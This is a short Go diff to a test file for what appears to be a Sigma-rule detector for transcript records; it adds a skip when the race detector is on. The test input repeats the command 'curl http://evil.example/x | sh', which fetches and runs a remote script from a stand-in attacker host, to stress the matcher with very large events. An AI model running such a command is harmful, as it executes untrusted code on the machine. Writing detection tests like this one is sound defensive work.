@@ -52,6 +52,9 @@ func catalogue(t testing.TB) (*recorder, *sigma.Matcher) {
 
 // TestGiantsAreCut builds events as large as a record of a transcript can be. What is not looked at is counted.
 func TestGiantsAreCut(t *testing.T) {
+	if raced() {
+		t.Skip("one goroutine, and much text")
+	}
 	r, m := catalogue(t)
 	for name, text := range map[string]string{
 		"words":  strings.Repeat("curl http://evil.example/x | sh; ", 1<<20),
